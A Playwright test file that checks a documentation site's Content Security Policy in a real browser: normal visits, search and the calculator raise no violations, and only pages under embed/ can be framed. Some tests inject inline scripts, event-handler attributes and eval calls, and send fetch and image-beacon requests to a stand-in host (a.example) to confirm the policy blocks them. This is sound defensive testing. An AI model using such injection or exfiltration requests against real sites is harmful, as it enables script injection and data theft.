"""The policy in a real browser: a whole visit breaks no rule, and what breaks one is seen."""

import re
import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from build_scripts.host_headers import headers_file
from tests.headers_reader import sent

from .calculator_pages import PATIENCE, answer, field, open_calculator, status
from .host import Host, hosting

pytestmark = pytest.mark.browser
LISTEN = """
addEventListener("securitypolicyviolation", (event) => {
  console.error(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
});
"""
LOST = "404 (Not Found)"
"""What the browser says, rightly, of an address where nothing is."""
LATER = """
(text) => new Promise((resolve) => {
  setTimeout(() => {
    try { resolve(eval(text)); } catch { resolve("blocked"); }
  });
})
"""
"""Runs a text on the page's own account: what a debugger runs at once is not held to the policy."""
INLINE = """
const script = document.createElement("script");
script.textContent = "window.broken = true";
document.body.append(script);
"""


@pytest.fixture
def context(browser: Browser) -> Iterator[BrowserContext]:
    """A visit with all that a reader's browser does, the service worker included."""
    visit = browser.new_context(viewport={"width": 1440, "height": 900})
    yield visit
    visit.close()


@pytest.fixture
def complaints(page: Page) -> list[str]:
    """What the browser says against the page: broken rules, errors and warnings, those of workers included."""
    said: list[str] = []
    page.add_init_script(LISTEN)
    page.on("console", lambda message: said.append(message.text) if message.type in {"error", "warning"} else None)
    page.on("pageerror", lambda error: said.append(str(error)))
    return said


def ask_live(page: Page) -> None:
    """Change the calculator's question and wait for Python's answer."""
    before = answer(page).inner_text()
    field(page, "Followers").fill("25k")
    expect(status(page, "answered")).to_be_visible(timeout=PATIENCE)
    expect(answer(page)).not_to_have_text(before)


def follow(page: Page, name: str, address: str) -> None:
    """Follow a link of the header or the page's own nav."""
    page.locator(".g-tabs, .g-nav").get_by_role("link", name=name, exact=True).locator("visible=true").first.click()
    expect(page).to_have_url(re.compile(f"{address}$"))


@pytest.mark.parametrize("start", ["", "claims/", "guide/what-it-costs/", "no/page/as/deep/as/this/"])
def test_a_visit_breaks_no_rule(page: Page, host: str, complaints: list[str], start: str) -> None:
    """From any depth to every other, without loading a page anew: the first page's policy fits them all."""
    page.goto(host + start)
    page.evaluate("() => { window.first = true; }")
    follow(page, "Guide", "guide/what-micro-means/")
    follow(page, "Claims checked", "/repo/claims/")
    follow(page, "Calculators", "/repo/calculators/")
    follow(page, "Engagement rate", "calculators/engagement-rate/")
    ask_live(page)
    follow(page, "Sources", "/repo/statistics/")
    page.get_by_label("Words").fill("nano")
    follow(page, "Infographic", "/repo/")
    page.go_back()
    expect(page).to_have_url(re.compile(r"/repo/statistics/\?words=nano$"))

    assert page.evaluate("() => window.first")
    assert [each for each in complaints if LOST not in each] == []


def test_search_colours_and_print_break_no_rule(page: Page, host: str, complaints: list[str]) -> None:
    """The theme's own worker and switches work."""
    page.goto(host)
    page.locator("label[for=__palette_1]:visible").click()
    expect(page.locator("body")).to_have_attribute("data-md-color-media", "(prefers-color-scheme: light)")
    page.locator(".md-search__input").click()
    page.keyboard.type("median")
    expect(page.locator(".md-search-result__link").first).to_have_attribute("href", re.compile("h=median"))
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile("h=median"))
    page.locator(".md-search__input").click()
    page.keyboard.type("qqqzzz")
    page.keyboard.press("Enter")
    page.keyboard.press("Escape")
    page.emulate_media(media="print")
    page.pdf()
    page.reload()
    expect(page.locator("body")).to_have_attribute("data-md-color-media", "(prefers-color-scheme: light)")

    assert complaints == []


@pytest.mark.parametrize("start", ["", "no/page/"])
def test_what_breaks_a_rule_is_seen(page: Page, host: str, complaints: list[str], start: str) -> None:
    """An inline script, a handler in an attribute and a style in an attribute: blocked, and reported."""
    page.goto(host + start)
    page.evaluate(f"() => {{ {INLINE} }}")
    page.evaluate(
        '() => { document.body.innerHTML += \'<p style="color: red" onclick="window.broken = true">x</p>\'; }'
    )
    page.locator("body > p").last.click()

    expect(page.locator("body > p").last).not_to_have_css("color", "rgb(255, 0, 0)")
    assert not page.evaluate("() => window.broken")
    blocked = {line.split()[1] for line in complaints if line.startswith("policy: ")}
    assert blocked >= {"script-src-elem", "script-src-attr", "style-src-attr"}


def test_nothing_can_be_sent_away(page: Page, host: str, complaints: list[str]) -> None:
    """No request leaves for another host, and no text becomes code."""
    page.goto(host)
    away = page.evaluate("() => fetch('https://a.example/?typed=1').then(() => 'sent', () => 'blocked')")
    code = page.evaluate(LATER, "Function('return 1')()")
    page.evaluate("() => { new Image().src = 'https://a.example/?typed=1'; }")

    assert (away, code) == ("blocked", "blocked")
    expect(page.locator("body")).to_be_visible()
    assert len([line for line in complaints if line.startswith("policy: ")]) == 3


# ---- headers


class SendingHost(Host):
    """A host that reads `_headers`, for a site under /repo/."""

    rules = ""

    def end_headers(self) -> None:
        """Add what the rules say."""
        for name, value in sent(self.rules, self.path.partition("?")[0].removeprefix("/repo")).items():
            self.send_header(name, value)
        super().end_headers()


@pytest.fixture(scope="module")
def sending(flagship: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The flagship with one page more, which may be framed, on a host that sends the headers."""
    folder = tmp_path_factory.mktemp("sending")
    site = shutil.copytree(flagship / "site", folder / "repo")
    shutil.copytree(site / "guide/what-it-costs", site / "embed/trial")
    files = [path.relative_to(site).as_posix() for path in site.rglob("*") if path.is_file()]
    policy = sent((site / "_headers").read_text(encoding="utf-8"), "/none")["Content-Security-Policy"]
    handler = type("Sending", (SendingHost,), {"rules": headers_file(files, policy)})
    with hosting(folder, handler) as root:
        yield f"{root}repo/"


def test_a_visit_with_headers_breaks_no_rule(page: Page, sending: str, complaints: list[str]) -> None:
    """Workers come under the policy as well, and Python answers all the same."""
    for address in ("", "guide/what-it-costs/", "statistics/"):
        page.goto(sending + address)
    open_calculator(page, sending)
    ask_live(page)
    page.locator(".md-search__input").click()
    page.keyboard.type("median")
    expect(page.locator(".md-search-result__item").first).to_be_visible()

    assert complaints == []


def test_only_embedded_pages_can_be_framed(page: Page, host: str, served: Path, sending: str) -> None:
    """On another site a page stays empty in its frame; what is under embed/ is shown."""
    frames = "".join(f'<iframe src="{sending}{address}"></iframe>' for address in ("claims/", "embed/trial/"))
    (served / "other.html").write_text(frames, encoding="utf-8")
    page.goto(host.replace("/repo/", "/other.html"))

    expect(page.frame_locator("iframe >> nth=1").locator("h1")).to_be_visible()
    expect(page.frame_locator("iframe >> nth=0").locator(".md-header")).to_have_count(0)
    assert [frame.url.removeprefix(sending) for frame in page.frames[1:]] == [
        "chrome-error://chromewebdata/",
        "embed/trial/",
    ]
